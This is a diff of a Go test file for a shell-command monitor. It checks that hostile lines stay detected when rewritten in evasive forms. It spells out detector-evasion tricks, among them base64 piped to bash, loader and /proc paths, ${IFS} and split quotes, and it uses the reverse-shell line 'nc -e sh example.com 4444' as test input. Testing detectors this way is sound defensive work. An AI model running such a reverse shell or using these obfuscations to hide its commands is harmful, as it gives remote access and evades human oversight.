@@ -1,165 +1,123 @@
 package score
 
 import (
-	"encoding/base64"
-	"fmt"
-	"path"
-	"strings"
+	"hash/crc32"
 	"testing"
 
-	"mvdan.cc/sh/v3/syntax"
-
-	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/mutate"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/replay"
+	"github.com/code-on-incus/coi/pkg/coi"
 )
 
-// mutation changes how a line is written and not what it does. It returns ""
-// when it does not apply.
-type mutation struct {
-	name string
-	do   func(line string) string
-}
+// unknowable is the mutation whose lines do not tell what runs: the program was
+// renamed before, somewhere else. Live, its content tells.
+const unknowable = "renamed before"
 
-// first cuts the first simple command's program from the rest of the line;
-// ok is false when the line does not begin with a plain program.
-func first(line string) (prog, rest string, ok bool) {
-	prog, rest, _ = strings.Cut(line, " ")
-	if strings.ContainsAny(prog, "=$'\"`(){};|&<>\\!:.") || prog == "" || program.ClassOf(prog) == program.None {
-		return "", "", false
+// mutable are the lines that the mutations are tried on: the held-out lines, a part of the
+// catalogue, and of the samples of all detectors. Honest ones have no Expect.
+func mutable(t *testing.T) []replay.Row {
+	t.Helper()
+	out := append(rows(t, "hostile.txt"), rows(t, "honest.txt")...)
+	for _, r := range catalogue(t) {
+		if chosen(r.Cmd, 24) {
+			out = append(out, r)
+		}
 	}
-	switch prog {
-	case "export", "unset", "set", "history", "for", "while", "if", "exec", "cd", "eval", "trap", "source", "coproc", "declare", "read", "shopt", "trap,":
-		return "", "", false
+	for _, d := range detect.All {
+		for _, s := range d.Fire {
+			if s.Line != "" && s.Level.Rank() >= coi.High.Rank() && chosen(s.Line, 4) {
+				out = append(out, replay.Row{Cmd: s.Line, Expect: "must", Category: d.ID})
+			}
+		}
+		for _, s := range d.Quiet {
+			if s.Line != "" && s.Level == "" && chosen(s.Line, 4) {
+				out = append(out, replay.Row{Cmd: s.Line})
+			}
+		}
 	}
-	return prog, rest, true
+	for _, w := range detect.Everyday {
+		for _, s := range w.Samples() {
+			out = append(out, replay.Row{Cmd: s.Line})
+		}
+	}
+	return out
 }
 
-func quoted(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
+// chosen is one line in n, the same at every run.
+func chosen(line string, n uint32) bool { return crc32.ChecksumIEEE([]byte(line))%n == 0 }
 
-// mutations are those of the hit-rate promise.
-var mutations = []mutation{
-	{"copy", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok {
-			return ""
+// found is the set of lines that reach high as they are: a mutation must not
+// lose them, and cannot be blamed for honest ones that do.
+func found(list []replay.Row) []replay.Row {
+	var out []replay.Row
+	for _, r := range list {
+		high := replay.Line(r, config()).Level.Rank() >= coi.High.Rank()
+		if high == (r.Expect == "must") {
+			out = append(out, r)
 		}
-		return fmt.Sprintf("cp $(command -v %s) /tmp/qz1 && /tmp/qz1 %s", p, rest)
-	}},
-	{"symlink", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok {
-			return ""
-		}
-		return fmt.Sprintf("ln -s /usr/bin/%s /tmp/lnk7; /tmp/lnk7 %s", p, rest)
-	}},
-	{"proc root", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok {
-			return ""
-		}
-		return "/proc/self/root/usr/bin/" + p + " " + rest
-	}},
-	{"loader", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok {
-			return ""
-		}
-		return "/lib64/ld-linux-x86-64.so.2 /usr/bin/" + p + " " + rest
-	}},
-	{"IFS", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok || rest == "" {
-			return ""
-		}
-		return p + "${IFS}" + rest
-	}},
-	{"split quotes", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok || len(p) < 2 {
-			return ""
-		}
-		return p[:1] + "''" + `"` + p[1:] + `" ` + rest
-	}},
-	{"base64", func(l string) string {
-		return "echo " + base64.StdEncoding.EncodeToString([]byte(l)) + " | base64 -d | bash"
-	}},
-	{"base64 in eval", func(l string) string {
-		return `eval "$(printf %s ` + base64.StdEncoding.EncodeToString([]byte(l)) + ` | base64 --decode)"`
-	}},
-	{"script", func(l string) string { return "printf '%s\\n' " + quoted(l) + " > /tmp/s9.sh; bash /tmp/s9.sh" }},
-	{"script by here-document", func(l string) string {
-		return "cat > ./run.sh <<'EOS'\n#!/bin/bash\n" + l + "\nEOS\nchmod +x ./run.sh && ./run.sh"
-	}},
-	{"sh -c", func(l string) string { return "timeout 60 bash -c " + quoted(l) }},
-	{"variables", func(l string) string {
-		p, rest, ok := first(l)
-		if !ok || len(p) < 2 {
-			return ""
-		}
-		return fmt.Sprintf("a=%s;b=%s;$a$b %s", p[:1], p[1:], rest)
-	}},
-	{"python", func(l string) string {
-		if strings.ContainsAny(l, "\\") {
-			return ""
-		}
-		return "python3 -c " + quoted("import os; os.system("+`"""`+strings.ReplaceAll(l, `"`, `\"`)+`"""`+")")
-	}},
+	}
+	return out
 }
 
-// parses reports lines that are still shell.
-func parses(line string) bool {
-	_, err := syntax.NewParser().Parse(strings.NewReader(line), "")
-	return err == nil
-}
-
-// TestMutations: at least 90 % of the hostile lines stay found under each
-// change (R-MON-05).
+// TestMutations: at least 90 % of the hostile lines that are found stay found
+// when they are written differently, and of the honest ones no more than two in a
+// hundred pause for it: those that hide what they do with a key (R-MON-05).
 func TestMutations(t *testing.T) {
-	var must []replay.Row
-	for _, r := range rows(t, "hostile.txt") {
-		if r.Expect == "must" {
-			must = append(must, r)
-		}
-	}
-	for _, m := range mutations {
-		t.Run(m.name, func(t *testing.T) {
-			hit, all := 0, 0
-			for _, r := range must {
-				line := m.do(r.Cmd)
-				if line == "" || !parses(line) {
-					continue
-				}
-				all++
-				if replay.Line(replay.Row{Cmd: line}, config()).Level.Rank() >= 2 {
-					hit++
-				} else {
-					t.Logf("missed: %s", line)
-				}
+	list := found(mutable(t))
+	for _, m := range mutate.All() {
+		t.Run(m.Name, func(t *testing.T) {
+			t.Parallel()
+			r := mutated(list, m, func(r replay.Row) replay.Verdict { return replay.Line(r, config()) })
+			bar := MustMutated
+			if m.Name == unknowable {
+				bar = 0.65
 			}
-			if all < 50 || float64(hit) < 0.9*float64(all) {
-				t.Errorf("%d of %d found; bar 90 %%", hit, all)
+			if r.Rows < 50 || r.Must < bar {
+				t.Errorf("%.3f of %d lines found; bar %.2f: %q", r.Must, r.Rows, bar, r.Missed)
 			}
-			t.Logf("%d of %d", hit, all)
+			if r.Pause > 0.02 {
+				t.Errorf("%.3f of the honest lines pause: %q", r.Pause, r.Alarms)
+			}
 		})
 	}
 }
 
-// TestMutatedHonest: the same changes on honest lines, short of hiding what
-// they are, pause nobody.
+// TestMutationsChange: each mutation gives another line that bash can read, for
+// a line that all of them apply to.
+func TestMutationsChange(t *testing.T) {
+	const line = "nc -e sh example.com 4444"
+	seen := map[string]string{}
+	for _, m := range mutate.All() {
+		got := m.Do(line)
+		if got == "" || got == line || !mutate.Parses(got) {
+			t.Errorf("%s: %q", m.Name, got)
+		}
+		if other := seen[got]; other != "" {
+			t.Errorf("%s and %s are the same", m.Name, other)
+		}
+		seen[got] = m.Name
+	}
+	if len(seen) < 50 {
+		t.Errorf("%d mutations; want 50", len(seen))
+	}
+}
+
+// TestMutatedHonest: changes that hide nothing pause nobody.
 func TestMutatedHonest(t *testing.T) {
-	harmless := map[string]bool{"script": true, "script by here-document": true, "sh -c": true, "variables": true, "split quotes": true, "IFS": true}
-	for _, m := range mutations {
-		if !harmless[m.name] {
+	harmless := map[string]bool{"here-document, sh FILE": true, "here-document, ./FILE": true, "bash -c": true, "a=n;b=c;$a$b": true, "n''c": true, `"n"c`: true, "${IFS}": true}
+	list := rows(t, "honest.txt")
+	for _, m := range mutate.All() {
+		if !harmless[m.Name] {
 			continue
 		}
-		for _, r := range rows(t, "honest.txt") {
-			line := m.do(r.Cmd)
-			if line == "" || !parses(line) {
-				continue
-			}
-			if v := replay.Line(replay.Row{Cmd: line}, config()); v.Level.Rank() >= 2 {
-				t.Errorf("%s: %s: %s (%s)", m.name, v.Level, path.Base(line), v.Findings[0].Rule)
-			}
+		delete(harmless, m.Name)
+		r := mutated(list, m, func(r replay.Row) replay.Verdict { return replay.Line(r, config()) })
+		if len(r.Alarms) > 0 {
+			t.Errorf("%s: %q pause", m.Name, r.Alarms)
 		}
+	}
+	if len(harmless) > 0 {
+		t.Errorf("no such mutations: %v", harmless)
 	}
 }
